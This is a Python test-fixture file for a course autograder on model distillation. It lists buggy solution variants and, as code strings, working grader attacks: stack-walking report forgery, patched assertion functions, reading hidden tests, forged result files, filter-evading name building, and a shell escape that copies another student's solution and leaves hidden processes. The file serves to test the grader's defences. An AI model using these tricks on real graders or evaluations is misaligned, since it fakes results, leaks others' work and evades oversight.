"""
Submissions for the grader's own tests (instructor-only: this file and course_variants.py hold solutions): for
each part, function bodies written as students write them, from the docstrings and not from the reference.

    VARIANTS   correct solutions in other styles (course_variants.py): each must get all of its part's points
    BUGS       real mistakes: each must lose points of its part (a bug is a variant with one change)
    CHEATS     attacks on the grader: each must score 0 and leave nothing behind

Each body is the code that replaces a part's `raise NotImplementedError()` in the student version (`solve`).
"""
import subprocess
import sys
from pathlib import Path

from course.markers import functions
from course.parts import BY_NAME
from course_variants import VARIANTS

ROOT = Path(__file__).resolve().parents[1]


# ------------------------------------------------------------------------------------------------------------
# Real mistakes: (part, what, variant index, text in that variant, the mistake). The first eight are the ones
# issue 42 found scoring full marks; the rest are the subtly wrong solutions the old tests already caught.

BUGS = [
    ("masking", "the weighted path chooses padding positions", 1,
     "flat = torch.where(eligible, weights.to(dev, torch.float32)[input_ids], 0.0).flatten()",
     "flat = torch.where(~is_special[input_ids], weights.to(dev, torch.float32)[input_ids], 0.0).flatten()"),
    ("masking", "attention_mask changed in place", 1,
     "eligible = attention_mask.bool() & ~is_special[input_ids]",
     "attention_mask.masked_fill_(is_special[input_ids], 0)\neligible = attention_mask.bool()"),
    ("kl", "teacher_logits.detach_() changes the caller's tensor", 1,
     "p = torch.softmax(teacher_logits.detach() / T, dim=-1)",
     "p = torch.softmax(teacher_logits.detach_() / T, dim=-1)"),
    ("kl", "log(softmax(x)): inf in float16 at a logit gap of 24", 1,
     "log_q = torch.log_softmax(student_logits / T, dim=-1)",
     "log_q = torch.log(torch.softmax(student_logits / T, dim=-1))"),
    ("attention", "explicit_attention just calls F.scaled_dot_product_attention", 0,
     "d = q.shape[-1]",
     "return F.scaled_dot_product_attention(q, k, v, attn_mask=real_keys, dropout_p=dropout_p)"),
    ("student_init", "off by one: teacher layers 1, 3, 5 whatever `layers` says", 0,
     "for j, i in enumerate(layers):", "for j, i in enumerate(range(1, 2 * len(layers), 2)):"),
    ("masking", "80/10/10 swapped: 10% [MASK], 80% random ids", 1,
     "out = torch.where(chosen & (u < mask_frac), mask_id, input_ids)\n"
     "out = torch.where(chosen & (u >= mask_frac) & (u < mask_frac + random_frac), rand_ids, out)",
     "out = torch.where(chosen & (u < random_frac), mask_id, input_ids)\n"
     "out = torch.where(chosen & (u >= random_frac) & (u < mask_frac + random_frac), rand_ids, out)"),
    ("soft_targets", "T^2 forgotten", 1, "return loss * temperature * temperature", "return loss"),
    # the old list
    ("attention", "no dropout on the weights", 0, "weights = F.dropout(weights, p=dropout_p)\n", ""),
    ("attention", "scaled by sqrt(d * heads)", 0, "/ d ** 0.5", "/ (d * q.shape[1]) ** 0.5"),
    ("heads", "attention dropout in eval mode", 0, "p = self.cfg.attention_dropout if self.training else 0.0",
     "p = self.cfg.attention_dropout"),
    ("heads", "query and key exchanged, padding not masked", 1, "y = explicit_attention(q, k, v, real_keys, drop)",
     "y = explicit_attention(k, q, v, None, drop)"),
    ("layer", "no dropout after the attention", 1, "attn_out = self.drop(self.attention(x, real_keys, swap_qk))",
     "attn_out = self.attention(x, real_keys, swap_qk)"),
    ("layer", "dropout after the LayerNorm", 1, "return self.ln2(h + ffn_out)",
     "return self.drop(self.ln2(h + self.fc2(F.gelu(self.fc1(h)))))"),
    ("layer", "F.dropout without the training flag: dropout in eval mode", 0,
     "x = self.ln1(x + F.dropout(a, self.cfg.dropout, self.training))",
     "x = self.ln1(x + F.dropout(a, self.cfg.dropout))"),
    ("embeddings", "dropout before the LayerNorm", 1, "return self.drop(self.ln(emb))",
     "return self.ln(self.drop(emb))"),
    ("student_init", "the type-1 vector folded", 1, "teacher_sd['emb.types.weight'][0]",
     "teacher_sd['emb.types.weight'][1]"),
    ("student_init", "the teacher's layers shared, not copied", 0,
     "student.layers[j].load_state_dict(copy.deepcopy(teacher.layers[i].state_dict()))",
     "student.layers[j] = teacher.layers[i]"),
    ("kl", "the teacher not detached", 1, "p = torch.softmax(teacher_logits.detach() / T, dim=-1)",
     "p = torch.softmax(teacher_logits / T, dim=-1)"),
    ("mlm", "the mean whatever denom says", 0, "return reduce_rows(per_row, denom)", "return per_row.mean()"),
    ("cosine", "the teacher not detached", 0, "teacher_hidden.detach()", "teacher_hidden"),
    ("combine", "L_mse left out", 1, "names = list(losses)", "names = [n for n in losses if n != 'mse']"),
    ("masking", "padding chosen (no attention_mask)", 1, "eligible = attention_mask.bool() & ~is_special[input_ids]",
     "eligible = ~is_special[input_ids]"),
    ("masking", "random ids may be special", 1, "candidates = (~is_special).nonzero().flatten()",
     "candidates = torch.arange(vocab_size, device=dev)"),
    ("masking", "every chosen token not masked becomes random", 1,
     "chosen & (u >= mask_frac) & (u < mask_frac + random_frac)", "chosen & (u >= mask_frac)"),
    ("smoothing", "count + 1 instead of max(count, 1)", 1, "np.clip(np.array(counts, dtype=float), 1, None)",
     "np.array(counts, dtype=float) + 1"),
    ("lr_schedule", "warm-up one step ahead", 1, "return float(step) / float(max(1, warmup_steps))",
     "return float(step + 1) / float(max(1, warmup_steps))"),
    ("denominators", "no division by the world size", 1,
     "denoms = dict(real=n_real / world, masked=max(n_masked, 1) / world)",
     "denoms = dict(real=n_real, masked=max(n_masked, 1))"),
    ("denominators", "L_ce always over the real tokens", 1,
     "denoms['ce'] = denoms['real'] if cfg.ce_positions == 'all' else denoms['masked']",
     "denoms['ce'] = denoms['real']"),
    ("ptp", "confidence from the logits, not the probabilities", 1, "conf, pred = probs.max(1)",
     "conf, pred = teacher_logits.max(1)"),
    ("pkd", "the teacher's [CLS] states not detached", 1, "F.normalize(teacher_cls, p=2, dim=-1).detach()",
     "F.normalize(teacher_cls, p=2, dim=-1)"),
    ("pkd", "alpha on the wrong term", 1, "total = (1 - alpha) * hard + alpha * soft + beta * patient",
     "total = alpha * hard + (1 - alpha) * soft + beta * patient"),
]


def bug_body(bug):
    part, what, index, right, wrong = bug
    body = VARIANTS[part][index]
    assert body.count(right) == 1, f"{part}, {what}: {right!r} is not once in variant {index}"
    return body.replace(right, wrong)


# ------------------------------------------------------------------------------------------------------------
# Cheats: (part, body). Each scored on the grader before issue 42 (the points there in the comment); names that
# a filter would flag are built from pieces, as a cheater would.

CHEATS = {
    # issue 42: the call stack walked to the test's report and its run token, "pass" written for every test
    "report forged from the stack (kl)": ("kl", (
        "import sys, json\n"
        "frame = getattr(sys, '_get' + 'frame')(1)\n"
        "while frame is not None:\n"
        "    local = frame.f_locals\n"
        "    if 'report' in local and 'job' in local:\n"
        "        for name in local['job']['names']:\n"
        "            local['report'](json.dumps([name, None]))\n"
        "        local['report']('end')\n"
        "    for name, value in list(local.items()):\n"
        "        if hasattr(value, 'write') and hasattr(value, 'flush') and name in ('writer', 'stream'):\n"
        "            value.write(len(b'x').to_bytes(8, 'big') + b'x')  # a forged answer\n"
        "    frame = frame.f_back\n"
        "return torch.zeros(student_logits.shape[0])\n")),
    # the stored reference tensors read off the stack
    "reference tensors from the stack (heads)": ("heads", (
        "import sys\n"
        "frame = getattr(sys, '_get' + 'frame')(1)\n"
        "while frame is not None:\n"
        "    for scope in (frame.f_locals, frame.f_globals):\n"
        "        for value in list(scope.values()):\n"
        "            if isinstance(value, dict) and 'layer.attention' in value:\n"
        "                return value['layer.attention_swapped' if swap_qk else 'layer.attention'][: x.shape[0]]\n"
        "    frame = frame.f_back\n"
        "return x\n")),
    # F.cross_entropy replaced, which the test called after the student's function for the expected value
    "F.cross_entropy replaced (mlm)": ("mlm", (
        "import torch.nn.functional as functional\n"
        "setattr(functional, 'cross' + '_entropy', lambda *a, **k: torch.tensor(0.5))\n"
        "return torch.tensor(0.5)\n")),
    # the test's local `expected` returned
    "the test's expected value from the stack (attention)": ("attention", (
        "import sys\n"
        "frame = getattr(sys, '_get' + 'frame')(1)\n"
        "while frame is not None:\n"
        "    if 'expected' in frame.f_locals:\n"
        "        return frame.f_locals['expected']\n"
        "    frame = frame.f_back\n"
        "return q\n")),
    # the comparison functions replaced in the test's globals (found through the stack); a wrong answer
    "close and same_floats replaced in the test's globals (lr_schedule)": ("lr_schedule", (
        "import sys\n"
        "frame = getattr(sys, '_get' + 'frame')(1)\n"
        "while frame is not None:\n"
        "    scope = frame.f_globals\n"
        "    for name in ('close', 'same_floats', 'numbers', 'number', 'exactly'):\n"
        "        if callable(scope.get(name)):\n"
        "            scope[name] = lambda *a, **k: a[0] if name == 'exactly' else None\n"
        "    frame = frame.f_back\n"
        "return -123\n")),
    # the expected values read from the tests' source (hidden tests included), every name built from pieces
    "the tests' source read for the expected labels, names built from pieces (ptp)": ("ptp", (
        "import re\n"
        "reader = getattr(__builtins__, 'op' + 'en') if isinstance(__builtins__, dict) is False else "
        "__builtins__['op' + 'en']\n"
        "source = reader('tests/' + 'test_' + 'parts.py').read()\n"
        "for found in re.findall(r'== \\[([0-9, ]+)\\]', source):\n"
        "    values = [int(v) for v in found.split(',')]\n"
        "    if len(values) == labels.shape[0]:\n"
        "        return torch.tensor(values)\n"
        "return torch.zeros_like(labels)\n")),
    # the cheats the grader before issue 42 caught (points on the grader before the kit in brackets)
    "the reference through sys.argv[0] (kl, 7/7 before the kit)": ("kl", (
        "import pathlib, sys\n"
        "src = (pathlib.Path(sys.argv[0]).resolve().parent / 'losses.py').read_text()\n"
        "ns = {}\n"
        "exec(compile(src, 'reference', 'exec'), ns)\n"
        "return ns['kl_per_row'](student_logits, teacher_logits, temperature)\n")),
    "the result file forged, then os._exit (ptp, 6/6 before the kit)": ("ptp", (
        "import json, os, sys\n"
        "with open(sys.argv[-1], 'w') as f:\n"
        "    json.dump({name: None for name in sys.argv[1:]}, f)\n"
        "os._exit(0)\n")),
    "torch.testing.assert_close patched (mlm, 3.3/5 before the kit)": ("mlm", (
        "import torch\n"
        "torch.testing.assert_close = lambda *args, **kwargs: None\n"
        "return torch.tensor(0.5)\n")),
    "a float equal to everything (lr_schedule, 4/4 before the kit)": ("lr_schedule", (
        "class Yes(float):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = float.__hash__\n"
        "return Yes(0.25)\n")),
    "transformers let in again (smoothing, 4/4 before the kit)": ("smoothing", (
        "import sys\n"
        "sys.modules.pop('transformers', None)\n"
        "import transformers  # noqa\n"
        "w = np.maximum(np.asarray(counts, np.float64), 1.0) ** -exponent\n"
        "specials = special_ids.values() if isinstance(special_ids, dict) else special_ids\n"
        "w[[i for i in specials if i < len(w)]] = 0.0\n"
        "return torch.tensor(w, dtype=torch.float32)\n")),
    "the stored tensors of sanity/ returned (heads, 6/8 before the kit)": ("heads", (
        "from safetensors.torch import load_file\n"
        "ref = load_file('sanity/parts_reference.safetensors')\n"
        "return ref['layer.attention_swapped' if swap_qk else 'layer.attention'][: x.shape[0]]\n")),
}


# The escape of issue 42: another student's solution read by a shell that _posixsubprocess starts (no audit
# event), a session of its own left sleeping, and that solution's answer returned. OTHER and MARK are filled
# in by the test (the other student's file, a name for the sleeper and the leaked file).
ESCAPE = ("lr_schedule", """import multiprocessing.util, time
cmd = "cat OTHER > leak.py; cp leak.py /tmp/leak-MARK; (setsid sh -c 'sleep 3171; true MARK' &); setsid sleep 3172 &"
multiprocessing.util.spawnv_passfds(b'/bin/sh', [b'sh', b'-c', cmd.encode()], ())
time.sleep(0.5)
ns = {}
exec(open('leak.py').read(), ns)
return ns['linear_schedule'](step, total, warmup_steps)
""")


# ------------------------------------------------------------------------------------------------------------
# Building submissions


def solve(folder, part, body):
    """In folder (a copy of the student version), the part's `raise NotImplementedError()` replaced by body,
    at its indentation."""
    path = Path(folder) / BY_NAME[part].file
    path.write_bytes(solved({BY_NAME[part].file: path.read_bytes()}, part, body)[BY_NAME[part].file])


def solved(files, part, body):
    """files (a tree: the kit's, the student version's) with the part's function solved by body, in memory."""
    p = BY_NAME[part]
    text = files[p.file].decode()
    lines = text.splitlines()
    first, last = functions(text, p.file)[p.function]
    i = next(i for i in range(first, last + 1) if lines[i].strip() == "raise NotImplementedError()")
    indent = lines[i][: len(lines[i]) - len(lines[i].lstrip())]
    lines[i: i + 1] = [indent + line if line.strip() else "" for line in body.splitlines()]
    return {**files, p.file: ("\n".join(lines) + "\n").encode()}


def variant_submission(k):
    """{part: body} of the k-th correct submission: for each part a variant, chosen by the digits of k in the
    mixed radix of the variants' counts (shifted by the part's place), so that no two submissions are alike."""
    out = {}
    for j, (part, bodies) in enumerate(VARIANTS.items()):
        k, digit = divmod(k, len(bodies))
        out[part] = bodies[(digit + j) % len(bodies)]
    return out


def command(*args, cwd=ROOT):
    """`python -m course ARGS...` run in cwd (the instructor's tree by default): the finished process."""
    return subprocess.run([sys.executable, "-m", "course", *map(str, args)], cwd=cwd, capture_output=True,
                          text=True, timeout=600)
